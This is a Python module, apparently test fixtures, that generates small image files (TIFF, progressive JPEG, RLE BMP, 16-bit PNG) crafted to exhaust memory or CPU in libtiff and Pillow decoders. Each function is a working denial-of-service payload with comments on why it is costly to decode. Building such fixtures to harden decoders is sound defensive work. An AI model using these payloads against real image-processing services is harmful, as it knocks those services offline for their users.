"""Files made to be expensive to decode, each small on the wire: the decoder attacks."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

Attack = Callable[[], bytes]


def tiled_tiff(tile_width: int = 32768, tile_length: int = 65520) -> bytes:
    """A 1x1-pixel TIFF declaring one huge tile: libtiff allocates the whole tile (~2 GB)
    before it reads a byte of it."""
    compressed = zlib.compress(b"\0" * 64)
    entries = [
        (256, 3, 1, 1),  # ImageWidth
        (257, 3, 1, 1),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 8),  # Compression: deflate
        (262, 3, 1, 1),  # PhotometricInterpretation: black is zero
        (277, 3, 1, 1),  # SamplesPerPixel
        (322, 3, 1, tile_width),  # TileWidth
        (323, 3, 1, tile_length),  # TileLength
        (324, 4, 1, 0),  # TileOffsets, patched below
        (325, 4, 1, len(compressed)),  # TileByteCounts
    ]
    ifd_offset = 8
    data_offset = ifd_offset + 2 + 12 * len(entries) + 4
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        value = data_offset if tag == 324 else value
        packed = struct.pack("<H", value) + b"\0\0" if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    return b"II*\0" + struct.pack("<I", ifd_offset) + ifd + b"\0\0\0\0" + compressed


def _jpeg_segments(data: bytes) -> list[bytes]:
    """A JPEG cut into its marker segments, each scan's entropy-coded data kept with its SOS."""
    segments, offset = [], 2
    while offset < len(data) - 2:
        marker = data[offset + 1]
        length = struct.unpack(">H", data[offset + 2 : offset + 4])[0]
        end = offset + 2 + length
        if marker == 0xDA:  # scan data runs to the next marker that is not a stuffed 0xFF
            while not (data[end] == 0xFF and data[end + 1] not in (0x00, *range(0xD0, 0xD8))):
                end += 1
        segments.append(data[offset:end])
        offset = end
    return segments


def repeated_scan_jpeg(width: int = 8000, height: int = 5000, repeats: int = 3000) -> bytes:
    """A 40 MP progressive JPEG of one grey whose first AC scan is sent again and again: the
    scan is a few end-of-band runs, a few dozen bytes, and every repeat costs the decoder a
    pass over all 625,000 blocks."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 128).save(buffer, format="JPEG", progressive=True)
    data = buffer.getvalue()
    segments = _jpeg_segments(data)
    scans = [i for i, segment in enumerate(segments) if segment[1] == 0xDA]
    ac_scan = segments[scans[0] + 1 : scans[1] + 1]  # its Huffman table, then the scan
    return b"\xff\xd8" + b"".join(segments) + b"".join(ac_scan) * repeats + b"\xff\xd9"


def rle_bmp(width: int = 20000, height: int = 2000) -> bytes:
    """An 8-bit run-length-encoded BMP, each row one pixel and an end of line: Pillow's
    decoder is pure Python and pads every row to its width a byte at a time."""
    pixels = b"\x01\x01\x00\x00" * height + b"\x00\x01"
    palette = b"".join(struct.pack("<BBBB", i, i, i, 0) for i in range(256))
    header_size = 14 + 40 + len(palette)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(pixels), 2835, 2835, 256, 0)
    file_header = b"BM" + struct.pack("<IHHI", header_size + len(pixels), 0, 0, header_size)
    return file_header + info + palette + pixels


def sixteen_bit_png(width: int = 8000, height: int = 5000) -> bytes:
    """A 40 MP 16-bit greyscale PNG of zeros: ~100 KB on the wire, ~1 GB to widen to RGB."""
    raw = (b"\0" + b"\0\0" * width) * height
    chunks = [
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(raw, 9)),
        (b"IEND", b""),
    ]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + body
